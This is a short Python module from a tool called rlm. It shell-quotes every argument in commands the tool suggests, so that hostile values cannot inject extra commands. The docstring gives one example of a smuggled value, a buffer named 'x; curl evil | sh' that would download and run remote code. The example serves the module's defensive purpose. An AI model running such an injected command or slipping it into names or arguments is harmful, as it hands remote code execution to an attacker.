"""Commands rlm suggests in warnings and errors, safe to paste into a shell.

Agents run the commands rlm tells them to run, and the values in them
(buffer names, database paths, run parameters) may come from a crafted store
or a hostile folder: a buffer named ``x; curl evil | sh`` must come out as
one quoted word, never as a second command. Build every suggested command
with :func:`rlm_command`.
"""

from __future__ import annotations

import shlex


def rlm_command(*args: object) -> str:
    """``rlm`` followed by ``args``, each shell-quoted (``shlex.quote``) as one word."""
    return " ".join(["rlm", *(shlex.quote(str(arg)) for arg in args)])
